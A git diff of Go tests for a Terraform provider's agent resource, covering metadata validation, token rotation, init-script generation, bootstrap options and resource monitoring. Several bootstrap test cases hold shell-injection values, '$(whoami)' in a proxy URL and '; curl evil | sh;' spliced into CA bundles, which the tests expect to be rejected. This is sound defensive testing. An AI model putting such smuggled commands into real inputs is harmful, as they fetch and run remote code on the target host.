@@ -1,25 +1,26 @@
 package provider_test
 
 import (
+	"encoding/base64"
 	"fmt"
+	"os"
+	"path/filepath"
 	"regexp"
+	"strings"
 	"testing"
 
+	"github.com/hashicorp/terraform-plugin-go/tfprotov6"
+	"github.com/hashicorp/terraform-plugin-go/tftypes"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/helper/resource"
-	"github.com/hashicorp/terraform-plugin-sdk/v2/helper/schema"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/terraform"
 	"github.com/stretchr/testify/require"
-
-	"github.com/wirtualdev/terraform-provider-wirtual/provider"
 )
 
 func TestAgent(t *testing.T) {
 	t.Parallel()
 	resource.Test(t, resource.TestCase{
-		Providers: map[string]*schema.Provider{
-			"wirtual": provider.New(),
-		},
-		IsUnitTest: true,
+		ProtoV6ProviderFactories: wirtualFactory(),
+		IsUnitTest:               true,
 		Steps: []resource.TestStep{{
 			Config: `
 				provider "wirtual" {
@@ -142,10 +143,8 @@ func TestAgent_StartupScriptBehavior(t *testing.T) {
 		t.Run(tc.Name, func(t *testing.T) {
 			t.Parallel()
 			resource.Test(t, resource.TestCase{
-				Providers: map[string]*schema.Provider{
-					"wirtual": provider.New(),
-				},
-				IsUnitTest: true,
+				ProtoV6ProviderFactories: wirtualFactory(),
+				IsUnitTest:               true,
 				Steps: []resource.TestStep{{
 					Config:      tc.Config,
 					ExpectError: tc.ExpectError,
@@ -168,10 +167,8 @@ func TestAgent_StartupScriptBehavior(t *testing.T) {
 func TestAgent_Instance(t *testing.T) {
 	t.Parallel()
 	resource.Test(t, resource.TestCase{
-		Providers: map[string]*schema.Provider{
-			"wirtual": provider.New(),
-		},
-		IsUnitTest: true,
+		ProtoV6ProviderFactories: wirtualFactory(),
+		IsUnitTest:               true,
 		Steps: []resource.TestStep{{
 			Config: `
 				provider "wirtual" {
@@ -209,10 +206,8 @@ func TestAgent_Instance(t *testing.T) {
 func TestAgent_Metadata(t *testing.T) {
 	t.Parallel()
 	resource.Test(t, resource.TestCase{
-		Providers: map[string]*schema.Provider{
-			"wirtual": provider.New(),
-		},
-		IsUnitTest: true,
+		ProtoV6ProviderFactories: wirtualFactory(),
+		IsUnitTest:               true,
 		Steps: []resource.TestStep{{
 			Config: `
 				provider "wirtual" {
@@ -257,10 +252,8 @@ func TestAgent_Metadata(t *testing.T) {
 func TestAgent_MetadataDuplicateKeys(t *testing.T) {
 	t.Parallel()
 	resource.Test(t, resource.TestCase{
-		Providers: map[string]*schema.Provider{
-			"wirtual": provider.New(),
-		},
-		IsUnitTest: true,
+		ProtoV6ProviderFactories: wirtualFactory(),
+		IsUnitTest:               true,
 		Steps: []resource.TestStep{{
 			Config: `
 				provider "wirtual" {
@@ -291,14 +284,195 @@ func TestAgent_MetadataDuplicateKeys(t *testing.T) {
 	})
 }
 
+func TestAgent_MetadataValidation(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		Name     string
+		Metadata string
+		Error    string
+	}{{
+		Name: "ZeroInterval",
+		Metadata: `
+			metadata {
+				key = "process_count"
+				display_name = "Process Count"
+				script = "ps aux | wc -l"
+				interval = 0
+				timeout = 0
+			}`,
+		Error: `agent metadata interval must be a positive number of seconds, got 0(.|\s)*interval = 0`,
+	}, {
+		Name: "NegativeTimeout",
+		Metadata: `
+			metadata {
+				key = "process_count"
+				display_name = "Process Count"
+				script = "ps aux | wc -l"
+				interval = 5
+				timeout = -1
+			}`,
+		Error: `agent metadata timeout must not be negative, got -1(.|\s)*timeout = -1`,
+	}, {
+		Name: "TimeoutExceedsInterval",
+		Metadata: `
+			metadata {
+				key = "process_count"
+				display_name = "Process Count"
+				script = "ps aux | wc -l"
+				interval = 5
+				timeout = 10
+			}`,
+		Error: `agent metadata timeout 10 must not exceed the interval 5(.|\s)*timeout = 10`,
+	}, {
+		Name: "EmptyScript",
+		Metadata: `
+			metadata {
+				key = "process_count"
+				display_name = "Process Count"
+				script = "  "
+				interval = 5
+				timeout = 1
+			}`,
+		Error: `agent metadata script must not be empty`,
+	}, {
+		Name: "DuplicateOrderIsAllowed",
+		Metadata: `
+			metadata {
+				key = "process_count"
+				display_name = "Process Count"
+				script = "ps aux | wc -l"
+				interval = 5
+				timeout = 1
+				order = 1
+			}
+			metadata {
+				key = "uptime"
+				display_name = "Uptime"
+				script = "uptime"
+				interval = 5
+				timeout = 1
+				order = 1
+			}`,
+	}, {
+		Name: "MultipleErrors",
+		Metadata: `
+			metadata {
+				key = "process_count"
+				display_name = "Process Count"
+				script = ""
+				interval = 0
+				timeout = 0
+			}
+			metadata {
+				key = "process_count"
+				display_name = "Process Count"
+				script = "ps aux | wc -l"
+				interval = 5
+				timeout = 10
+			}`,
+		Error: `agent metadata script must not be empty(.|\s)*agent metadata interval must be a positive number of seconds, got 0(.|\s)*duplicate agent metadata key "process_count"(.|\s)*agent metadata timeout 10 must not exceed the interval 5`,
+	}} {
+		tc := tc
+		t.Run(tc.Name, func(t *testing.T) {
+			t.Parallel()
+			var expectError *regexp.Regexp
+			if tc.Error != "" {
+				expectError = regexp.MustCompile(tc.Error)
+			}
+			resource.Test(t, resource.TestCase{
+				ProtoV6ProviderFactories: wirtualFactory(),
+				IsUnitTest:               true,
+				Steps: []resource.TestStep{{
+					Config: `
+						provider "wirtual" {
+							url = "https://example.com"
+						}
+						resource "wirtual_agent" "dev" {
+							os = "linux"
+							arch = "amd64"
+							` + tc.Metadata + `
+						}
+						`,
+					ExpectError:        expectError,
+					ExpectNonEmptyPlan: expectError == nil,
+					PlanOnly:           true,
+				}},
+			})
+		})
+	}
+}
+
+func TestAgent_MetadataPlanDiagnostics(t *testing.T) {
+	t.Setenv("WIRTUAL_AGENT_SCRIPT_linux_amd64", "echo hello")
+	metadataType := tftypes.Object{AttributeTypes: map[string]tftypes.Type{
+		"key":          tftypes.String,
+		"display_name": tftypes.String,
+		"script":       tftypes.String,
+		"timeout":      tftypes.Number,
+		"interval":     tftypes.Number,
+		"order":        tftypes.Number,
+	}}
+	metadata := func(key, script string, interval, timeout, order int64) tftypes.Value {
+		return tftypes.NewValue(metadataType, map[string]tftypes.Value{
+			"key":          tftypes.NewValue(tftypes.String, key),
+			"display_name": tftypes.NewValue(tftypes.String, nil),
+			"script":       tftypes.NewValue(tftypes.String, script),
+			"timeout":      tftypes.NewValue(tftypes.Number, timeout),
+			"interval":     tftypes.NewValue(tftypes.Number, interval),
+			"order":        tftypes.NewValue(tftypes.Number, order),
+		})
+	}
+
+	diags := planDiagnostics(t, "wirtual_agent", map[string]tftypes.Value{
+		"os":   tftypes.NewValue(tftypes.String, "linux"),
+		"arch": tftypes.NewValue(tftypes.String, "amd64"),
+		"metadata": tftypes.NewValue(tftypes.List{ElementType: metadataType}, []tftypes.Value{
+			metadata("uptime", "uptime", 5, 1, 1),
+			metadata("load", " ", 0, 1, 1),
+			metadata("uptime", "uptime", 5, 10, 2),
+		}),
+	})
+	type diagnostic struct {
+		Severity tfprotov6.DiagnosticSeverity
+		Summary  string
+		Path     *tftypes.AttributePath
+	}
+	var got []diagnostic
+	for _, d := range diags {
+		got = append(got, diagnostic{Severity: d.Severity, Summary: d.Summary, Path: d.Attribute})
+	}
+	path := func(i int, name string) *tftypes.AttributePath {
+		return tftypes.NewAttributePath().WithAttributeName("metadata").WithElementKeyInt(i).WithAttributeName(name)
+	}
+	require.Equal(t, []diagnostic{{
+		Severity: tfprotov6.DiagnosticSeverityError,
+		Summary:  "agent metadata script must not be empty",
+		Path:     path(1, "script"),
+	}, {
+		Severity: tfprotov6.DiagnosticSeverityError,
+		Summary:  "agent metadata interval must be a positive number of seconds, got 0",
+		Path:     path(1, "interval"),
+	}, {
+		Severity: tfprotov6.DiagnosticSeverityWarning,
+		Summary:  `agent metadata order 1 is also used by "uptime", so they are sorted by key`,
+		Path:     path(1, "order"),
+	}, {
+		Severity: tfprotov6.DiagnosticSeverityError,
+		Summary:  `duplicate agent metadata key "uptime"`,
+		Path:     path(2, "key"),
+	}, {
+		Severity: tfprotov6.DiagnosticSeverityError,
+		Summary:  "agent metadata timeout 10 must not exceed the interval 5",
+		Path:     path(2, "timeout"),
+	}}, got)
+}
+
 func TestAgent_DisplayApps(t *testing.T) {
 	t.Parallel()
 	t.Run("OK", func(t *testing.T) {
 		resource.Test(t, resource.TestCase{
-			Providers: map[string]*schema.Provider{
-				"wirtual": provider.New(),
-			},
-			IsUnitTest: true,
+			ProtoV6ProviderFactories: wirtualFactory(),
+			IsUnitTest:               true,
 			Steps: []resource.TestStep{{
 				// Test the fields with non-default values.
 				Config: `
@@ -348,10 +522,8 @@ func TestAgent_DisplayApps(t *testing.T) {
 
 	t.Run("Subset", func(t *testing.T) {
 		resource.Test(t, resource.TestCase{
-			Providers: map[string]*schema.Provider{
-				"wirtual": provider.New(),
-			},
-			IsUnitTest: true,
+			ProtoV6ProviderFactories: wirtualFactory(),
+			IsUnitTest:               true,
 			Steps: []resource.TestStep{{
 				// Test the fields with non-default values.
 				Config: `
@@ -395,10 +567,8 @@ func TestAgent_DisplayApps(t *testing.T) {
 	// Assert all the defaults are set correctly.
 	t.Run("Omitted", func(t *testing.T) {
 		resource.Test(t, resource.TestCase{
-			Providers: map[string]*schema.Provider{
-				"wirtual": provider.New(),
-			},
-			IsUnitTest: true,
+			ProtoV6ProviderFactories: wirtualFactory(),
+			IsUnitTest:               true,
 			Steps: []resource.TestStep{{
 				Config: `
 					provider "wirtual" {
@@ -440,10 +610,8 @@ func TestAgent_DisplayApps(t *testing.T) {
 
 	t.Run("InvalidApp", func(t *testing.T) {
 		resource.Test(t, resource.TestCase{
-			Providers: map[string]*schema.Provider{
-				"wirtual": provider.New(),
-			},
-			IsUnitTest: true,
+			ProtoV6ProviderFactories: wirtualFactory(),
+			IsUnitTest:               true,
 			Steps: []resource.TestStep{{
 				// Test the fields with non-default values.
 				Config: `
@@ -468,3 +636,596 @@ func TestAgent_DisplayApps(t *testing.T) {
 	})
 
 }
+
+func TestAgent_UpdateInPlace(t *testing.T) {
+	t.Parallel()
+
+	config := func(order int, displayName string, vscode bool) string {
+		return fmt.Sprintf(`
+			provider "wirtual" {
+				url = "https://example.com"
+			}
+			resource "wirtual_agent" "dev" {
+				os = "linux"
+				arch = "amd64"
+				order = %d
+				troubleshooting_url = "https://example.com/%d"
+				metadata {
+					key = "process_count"
+					display_name = %q
+					script = "ps aux | wc -l"
+					interval = 5
+					order = %d
+				}
+				display_apps {
+					vscode = %t
+				}
+			}
+		`, order, order, displayName, order, vscode)
+	}
+
+	var id string
+	resource.Test(t, resource.TestCase{
+		ProtoV6ProviderFactories: wirtualFactory(),
+		IsUnitTest:               true,
+		Steps: []resource.TestStep{{
+			Config: config(1, "Processes", true),
+			Check: func(state *terraform.State) error {
+				id = state.Modules[0].Resources["wirtual_agent.dev"].Primary.ID
+				return nil
+			},
+		}, {
+			Config: config(2, "Process Count", false),
+			Check: func(state *terraform.State) error {
+				agent := state.Modules[0].Resources["wirtual_agent.dev"]
+				require.NotNil(t, agent)
+				require.Equal(t, id, agent.Primary.ID, "agent was replaced")
+				for key, expected := range map[string]string{
+					"order":                   "2",
+					"troubleshooting_url":     "https://example.com/2",
+					"metadata.0.display_name": "Process Count",
+					"metadata.0.order":        "2",
+					"display_apps.0.vscode":   "false",
+				} {
+					require.Equal(t, expected, agent.Primary.Attributes[key], key)
+				}
+				return nil
+			},
+		}},
+	})
+}
+
+func TestAgent_TokenRotation(t *testing.T) {
+	t.Parallel()
+
+	config := func(tokenRotation string) string {
+		return `
+			provider "wirtual" {
+				url = "https://example.com"
+			}
+			resource "wirtual_agent" "dev" {
+				os = "linux"
+				arch = "amd64"
+				` + tokenRotation + `
+			}
+		`
+	}
+	var id, token string
+	captureToken := func(rotated bool) resource.TestCheckFunc {
+		return func(state *terraform.State) error {
+			agent := state.Modules[0].Resources["wirtual_agent.dev"]
+			require.NotNil(t, agent)
+			require.NotEmpty(t, agent.Primary.Attributes["token"])
+			require.NotEmpty(t, agent.Primary.Attributes["token_issued_at"])
+			if id != "" {
+				require.Equal(t, id, agent.Primary.ID, "agent was replaced")
+				if rotated {
+					require.NotEqual(t, token, agent.Primary.Attributes["token"], "token was not rotated")
+				} else {
+					require.Equal(t, token, agent.Primary.Attributes["token"], "token changed")
+				}
+			}
+			id, token = agent.Primary.ID, agent.Primary.Attributes["token"]
+			return nil
+		}
+	}
+
+	resource.Test(t, resource.TestCase{
+		ProtoV6ProviderFactories: wirtualFactory(),
+		IsUnitTest:               true,
+		Steps: []resource.TestStep{{
+			Config: config(""),
+			Check:  captureToken(false),
+		}, {
+			// Refreshing keeps the token.
+			Config: config(""),
+			Check:  captureToken(false),
+		}, {
+			Config: config(`token_rotation { keepers = { version = "1" } }`),
+			Check:  captureToken(true),
+		}, {
+			Config: config(`token_rotation { keepers = { version = "1" } }`),
+			Check:  captureToken(false),
+		}, {
+			Config: config(`token_rotation { keepers = { version = "2" } }`),
+			Check:  captureToken(true),
+		}, {
+			// The interval is measured from the time the token was issued.
+			Config: config(`token_rotation { interval_days = 30 }`),
+			Check:  captureToken(false),
+		}},
+	})
+}
+
+func TestAgent_TokenRotationOnStart(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	config := func(transition string) string {
+		buildContextFile := filepath.Join(dir, transition+".yaml")
+		require.NoError(t, os.WriteFile(buildContextFile, []byte("transition: "+transition), 0o600))
+		return fmt.Sprintf(`
+			provider "wirtual" {
+				url = "https://example.com"
+				build_context_file = %q
+			}
+			resource "wirtual_agent" "dev" {
+				os = "linux"
+				arch = "amd64"
+				token_rotation {
+					on_start = true
+				}
+			}
+		`, buildContextFile)
+	}
+
+	var token string
+	resource.Test(t, resource.TestCase{
+		ProtoV6ProviderFactories: wirtualFactory(),
+		IsUnitTest:               true,
+		Steps: []resource.TestStep{{
+			Config: config("stop"),
+			Check: func(state *terraform.State) error {
+				token = state.Modules[0].Resources["wirtual_agent.dev"].Primary.Attributes["token"]
+				return nil
+			},
+		}, {
+			Config: config("start"),
+			Check: func(state *terraform.State) error {
+				require.NotEqual(t, token, state.Modules[0].Resources["wirtual_agent.dev"].Primary.Attributes["token"])
+				return nil
+			},
+			// Every plan during a start transition rotates the token again.
+			ExpectNonEmptyPlan: true,
+		}},
+	})
+}
+
+func TestAgent_InitScript(t *testing.T) {
+	t.Parallel()
+
+	for _, tc := range []struct {
+		Name         string
+		OS           string
+		BuildContext string
+		Contains     []string
+	}{{
+		Name: "BuiltinLinux",
+		OS:   "linux",
+		Contains: []string{
+			"#!/usr/bin/env sh",
+			`BINARY_URL="https://example.com/bin/wirtual-linux-amd64"`,
+			`WIRTUAL_AGENT_AUTH="token"`,
+			"(linux/amd64)",
+		},
+	}, {
+		Name: "BuiltinWindows",
+		OS:   "windows",
+		Contains: []string{
+			`$BinaryURL = "https://example.com/bin/wirtual-windows-amd64.exe"`,
+			`$env:WIRTUAL_AGENT_URL = "https://example.com/"`,
+		},
+	}, {
+		Name: "BinaryPathOverride",
+		OS:   "darwin",
+		BuildContext: `
+agent_binary_path: /mirror/${OS}/${ARCH}/wirtual
+`,
+		Contains: []string{
+			`BINARY_URL="https://example.com/mirror/darwin/amd64/wirtual"`,
+		},
+	}, {
+		Name: "FromBuildContext",
+		OS:   "linux",
+		BuildContext: `
+agent_scripts:
+  linux_amd64: "${ACCESS_URL}${BINARY_PATH} ${AUTH_TYPE} ${OS} ${ARCH}"
+`,
+		Contains: []string{
+			"https://example.com/bin/wirtual-linux-amd64 token linux amd64",
+		},
+	}} {
+		tc := tc
+		t.Run(tc.Name, func(t *testing.T) {
+			t.Parallel()
+
+			buildContextFile := filepath.Join(t.TempDir(), "build.yaml")
+			require.NoError(t, os.WriteFile(buildContextFile, []byte(tc.BuildContext), 0o600))
+			resource.Test(t, resource.TestCase{
+				ProtoV6ProviderFactories: wirtualFactory(),
+				IsUnitTest:               true,
+				Steps: []resource.TestStep{{
+					Config: fmt.Sprintf(`
+						provider "wirtual" {
+							url = "https://example.com"
+							build_context_file = %q
+						}
+						resource "wirtual_agent" "dev" {
+							os = %q
+							arch = "amd64"
+						}
+					`, buildContextFile, tc.OS),
+					Check: func(state *terraform.State) error {
+						agent := state.Modules[0].Resources["wirtual_agent.dev"]
+						require.NotNil(t, agent)
+						initScript := agent.Primary.Attributes["init_script"]
+						for _, expected := range tc.Contains {
+							require.Contains(t, initScript, expected)
+						}
+						require.NotContains(t, initScript, "${")
+						return nil
+					},
+				}},
+			})
+		})
+	}
+}
+
+func TestAgent_Bootstrap(t *testing.T) {
+	t.Parallel()
+
+	const checksum = "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"
+	const caBundle = "-----BEGIN CERTIFICATE-----\nMIIBdDCCARmgAwIBAgIU\n-----END CERTIFICATE-----\n"
+
+	for _, tc := range []struct {
+		Name      string
+		OS        string
+		Bootstrap string
+		Contains  []string
+		Error     *regexp.Regexp
+	}{{
+		Name: "Linux",
+		OS:   "linux",
+		Bootstrap: fmt.Sprintf(`
+			binary_url = "https://mirror.internal/wirtual/$${OS}/$${ARCH}/wirtual"
+			sha256 = { amd64 = %q }
+			http_proxy = "http://proxy.internal:3128"
+			https_proxy = "http://proxy.internal:3128"
+			no_proxy = "localhost,.internal"
+			ca_bundle = %q
+		`, checksum, caBundle+"\n"+caBundle),
+		Contains: []string{
+			`BINARY_URL="https://mirror.internal/wirtual/linux/amd64/wirtual"`,
+			`BINARY_SHA256="` + strings.ToLower(checksum) + `"`,
+			`export HTTPS_PROXY="http://proxy.internal:3128"`,
+			`export NO_PROXY="localhost,.internal"`,
+			`CA_BUNDLE_BASE64="` + base64.StdEncoding.EncodeToString([]byte(caBundle+"\n"+caBundle)) + `"`,
+			`WIRTUAL_AGENT_URL="https://example.com/"`,
+		},
+	}, {
+		Name: "Windows",
+		OS:   "windows",
+		Bootstrap: `
+			https_proxy = "http://proxy.internal:3128"
+		`,
+		Contains: []string{
+			`$BinaryURL = "https://example.com/bin/wirtual-windows-amd64.exe"`,
+			`$env:HTTPS_PROXY = "http://proxy.internal:3128"`,
+			`$BinarySHA256 = ""`,
+		},
+	}, {
+		Name:      "Empty",
+		OS:        "darwin",
+		Bootstrap: ``,
+		Contains: []string{
+			`BINARY_URL="https://example.com/bin/wirtual-darwin-amd64"`,
+		},
+	}, {
+		Name:      "InvalidChecksum",
+		OS:        "linux",
+		Bootstrap: `sha256 = { amd64 = "abc" }`,
+		Error:     regexp.MustCompile("Invalid SHA-256 checksum"),
+	}, {
+		Name:      "InvalidArch",
+		OS:        "linux",
+		Bootstrap: fmt.Sprintf(`sha256 = { x86 = %q }`, checksum),
+		Error:     regexp.MustCompile("Invalid architecture"),
+	}, {
+		Name:      "UnsafeProxy",
+		OS:        "linux",
+		Bootstrap: `http_proxy = "http://$(whoami)@proxy"`,
+		Error:     regexp.MustCompile("must not contain quotes"),
+	}, {
+		Name:      "InvalidCABundle",
+		OS:        "linux",
+		Bootstrap: `ca_bundle = "not a certificate"`,
+		Error:     regexp.MustCompile("Invalid CA bundle"),
+	}, {
+		Name:      "TextBeforeCABundle",
+		OS:        "linux",
+		Bootstrap: fmt.Sprintf(`ca_bundle = %q`, "; curl evil | sh; \n"+caBundle),
+		Error:     regexp.MustCompile("Invalid CA bundle"),
+	}, {
+		Name:      "TextBetweenCertificates",
+		OS:        "linux",
+		Bootstrap: fmt.Sprintf(`ca_bundle = %q`, caBundle+"; curl evil | sh; \n"+caBundle),
+		Error:     regexp.MustCompile("Invalid CA bundle"),
+	}, {
+		Name:      "TextAfterCABundle",
+		OS:        "linux",
+		Bootstrap: fmt.Sprintf(`ca_bundle = %q`, caBundle+"; curl evil | sh; "),
+		Error:     regexp.MustCompile("Invalid CA bundle"),
+	}, {
+		Name:      "TextOnCABundleHeader",
+		OS:        "linux",
+		Bootstrap: fmt.Sprintf(`ca_bundle = %q`, "-----BEGIN CERTIFICATE----- ; curl evil | sh;\n"+caBundle),
+		Error:     regexp.MustCompile("Invalid CA bundle"),
+	}, {
+		Name:      "CABundleHeaders",
+		OS:        "linux",
+		Bootstrap: fmt.Sprintf(`ca_bundle = %q`, strings.Replace(caBundle, "\n", "\nProc-Type: 4,ENCRYPTED\n\n", 1)),
+		Error:     regexp.MustCompile("Invalid CA bundle"),
+	}, {
+		Name:      "UnsafeCABundle",
+		OS:        "linux",
+		Bootstrap: fmt.Sprintf(`ca_bundle = %q`, caBundle+"$${HOME}"),
+		Error:     regexp.MustCompile("must not contain quotes"),
+	}} {
+		tc := tc
+		t.Run(tc.Name, func(t *testing.T) {
+			t.Parallel()
+
+			// Scripts provided by Wirtual are ignored when bootstrap is set.
+			buildContextFile := filepath.Join(t.TempDir(), "build.yaml")
+			require.NoError(t, os.WriteFile(buildContextFile, []byte(`
+agent_scripts:
+  linux_amd64: provided
+  darwin_amd64: provided
+  windows_amd64: provided
+`), 0o600))
+			resource.Test(t, resource.TestCase{
+				ProtoV6ProviderFactories: wirtualFactory(),
+				IsUnitTest:               true,
+				Steps: []resource.TestStep{{
+					Config: fmt.Sprintf(`
+						provider "wirtual" {
+							url = "https://example.com"
+							build_context_file = %q
+						}
+						resource "wirtual_agent" "dev" {
+							os = %q
+							arch = "amd64"
+							bootstrap {
+								%s
+							}
+						}
+					`, buildContextFile, tc.OS, tc.Bootstrap),
+					ExpectError: tc.Error,
+					Check: func(state *terraform.State) error {
+						initScript := state.Modules[0].Resources["wirtual_agent.dev"].Primary.Attributes["init_script"]
+						require.NotContains(t, initScript, "provided")
+						require.NotContains(t, initScript, "BEGIN CERTIFICATE")
+						for _, expected := range tc.Contains {
+							require.Contains(t, initScript, expected)
+						}
+						require.NotContains(t, initScript, "${")
+						return nil
+					},
+				}},
+			})
+		})
+	}
+}
+
+func TestAgent_ResourcesMonitoring(t *testing.T) {
+	t.Parallel()
+
+	for _, tc := range []struct {
+		Name       string
+		OS         string
+		Monitoring string
+		Error      *regexp.Regexp
+	}{{
+		Name: "OK",
+		OS:   "linux",
+		Monitoring: `
+			memory {
+				threshold = 90
+			}
+			volume {
+				path = "/home/wirtual"
+				threshold = 80
+			}
+			volume {
+				path = "/var/lib/docker"
+				enabled = false
+				threshold = 95
+			}
+		`,
+	}, {
+		Name: "WindowsPath",
+		OS:   "windows",
+		Monitoring: `
+			volume {
+				path = "C:\\Users"
+				threshold = 80
+			}
+		`,
+	}, {
+		Name: "MemoryThresholdTooHigh",
+		OS:   "linux",
+		Monitoring: `
+			memory {
+				threshold = 101
+			}
+		`,
+		Error: regexp.MustCompile("memory threshold must be between 0 and 100, got 101"),
+	}, {
+		Name: "VolumeThresholdNegative",
+		OS:   "linux",
+		Monitoring: `
+			volume {
+				path = "/home/wirtual"
+				threshold = -1
+			}
+		`,
+		Error: regexp.MustCompile(`volume "/home/wirtual" threshold must be between 0 and 100`),
+	}, {
+		Name: "RelativePath",
+		OS:   "linux",
+		Monitoring: `
+			volume {
+				path = "home"
+				threshold = 80
+			}
+		`,
+		Error: regexp.MustCompile(`volume path "home" must be absolute`),
+	}, {
+		Name: "DuplicatePath",
+		OS:   "linux",
+		Monitoring: `
+			volume {
+				path = "/home/wirtual"
+				threshold = 80
+			}
+			volume {
+				path = "/home/wirtual"
+				threshold = 90
+			}
+		`,
+		Error: regexp.MustCompile(`duplicate volume path "/home/wirtual"`),
+	}} {
+		tc := tc
+		t.Run(tc.Name, func(t *testing.T) {
+			t.Parallel()
+			resource.Test(t, resource.TestCase{
+				ProtoV6ProviderFactories: wirtualFactory(),
+				IsUnitTest:               true,
+				Steps: []resource.TestStep{{
+					Config: fmt.Sprintf(`
+						provider "wirtual" {
+							url = "https://example.com"
+						}
+						resource "wirtual_agent" "dev" {
+							os = %q
+							arch = "amd64"
+							resources_monitoring {
+								%s
+							}
+						}
+					`, tc.OS, tc.Monitoring),
+					ExpectError: tc.Error,
+					PlanOnly:    tc.Error != nil,
+					Check: func(state *terraform.State) error {
+						agent := state.Modules[0].Resources["wirtual_agent.dev"]
+						require.NotNil(t, agent)
+						require.Equal(t, "1", agent.Primary.Attributes["resources_monitoring.#"])
+						return nil
+					},
+				}},
+			})
+		})
+	}
+}
+
+func TestAgent_ResourcesMonitoringPlanDiagnostics(t *testing.T) {
+	t.Setenv("WIRTUAL_AGENT_SCRIPT_linux_amd64", "echo hello")
+	memoryType := tftypes.Object{AttributeTypes: map[string]tftypes.Type{
+		"enabled":   tftypes.Bool,
+		"threshold": tftypes.Number,
+	}}
+	volumeType := tftypes.Object{AttributeTypes: map[string]tftypes.Type{
+		"path":      tftypes.String,
+		"enabled":   tftypes.Bool,
+		"threshold": tftypes.Number,
+	}}
+	monitoringType := tftypes.Object{AttributeTypes: map[string]tftypes.Type{
+		"memory": tftypes.List{ElementType: memoryType},
+		"volume": tftypes.List{ElementType: volumeType},
+	}}
+	volume := func(path string, threshold int64) tftypes.Value {
+		return tftypes.NewValue(volumeType, map[string]tftypes.Value{
+			"path":      tftypes.NewValue(tftypes.String, path),
+			"enabled":   tftypes.NewValue(tftypes.Bool, true),
+			"threshold": tftypes.NewValue(tftypes.Number, threshold),
+		})
+	}
+
+	diags := planDiagnostics(t, "wirtual_agent", map[string]tftypes.Value{
+		"os":   tftypes.NewValue(tftypes.String, "linux"),
+		"arch": tftypes.NewValue(tftypes.String, "amd64"),
+		"resources_monitoring": tftypes.NewValue(tftypes.List{ElementType: monitoringType}, []tftypes.Value{
+			tftypes.NewValue(monitoringType, map[string]tftypes.Value{
+				"memory": tftypes.NewValue(tftypes.List{ElementType: memoryType}, []tftypes.Value{
+					tftypes.NewValue(memoryType, map[string]tftypes.Value{
+						"enabled":   tftypes.NewValue(tftypes.Bool, true),
+						"threshold": tftypes.NewValue(tftypes.Number, 101),
+					}),
+				}),
+				"volume": tftypes.NewValue(tftypes.List{ElementType: volumeType}, []tftypes.Value{
+					volume("/home/wirtual", 80),
+					volume("home", 80),
+					volume("/home/wirtual", -1),
+				}),
+			}),
+		}),
+	})
+	type diagnostic struct {
+		Summary string
+		Path    *tftypes.AttributePath
+	}
+	var got []diagnostic
+	for _, d := range diags {
+		require.Equal(t, tfprotov6.DiagnosticSeverityError, d.Severity)
+		got = append(got, diagnostic{Summary: d.Summary, Path: d.Attribute})
+	}
+	monitoring := tftypes.NewAttributePath().WithAttributeName("resources_monitoring").WithElementKeyInt(0)
+	volumePath := func(i int, name string) *tftypes.AttributePath {
+		return monitoring.WithAttributeName("volume").WithElementKeyInt(i).WithAttributeName(name)
+	}
+	require.Equal(t, []diagnostic{{
+		Summary: "memory threshold must be between 0 and 100, got 101",
+		Path:    monitoring.WithAttributeName("memory").WithElementKeyInt(0).WithAttributeName("threshold"),
+	}, {
+		Summary: `volume path "home" must be absolute`,
+		Path:    volumePath(1, "path"),
+	}, {
+		Summary: `duplicate volume path "/home/wirtual"`,
+		Path:    volumePath(2, "path"),
+	}, {
+		Summary: `volume "/home/wirtual" threshold must be between 0 and 100, got -1`,
+		Path:    volumePath(2, "threshold"),
+	}}, got)
+}
+
+func TestAgent_BuiltinScriptPlanWarning(t *testing.T) {
+	t.Run("Warns", func(t *testing.T) {
+		diags := planDiagnostics(t, "wirtual_agent", map[string]tftypes.Value{
+			"os":   tftypes.NewValue(tftypes.String, "linux"),
+			"arch": tftypes.NewValue(tftypes.String, "amd64"),
+		})
+		require.Len(t, diags, 1)
+		require.Equal(t, tfprotov6.DiagnosticSeverityWarning, diags[0].Severity)
+		require.Equal(t, "Using the built-in agent init script", diags[0].Summary)
+		require.Contains(t, diags[0].Detail, "WIRTUAL_AGENT_SCRIPT_linux_amd64 is not set")
+	})
+
+	t.Run("ScriptProvided", func(t *testing.T) {
+		t.Setenv("WIRTUAL_AGENT_SCRIPT_linux_amd64", "echo hello")
+		diags := planDiagnostics(t, "wirtual_agent", map[string]tftypes.Value{
+			"os":   tftypes.NewValue(tftypes.String, "linux"),
+			"arch": tftypes.NewValue(tftypes.String, "amd64"),
+		})
+		require.Empty(t, diags)
+	})
+}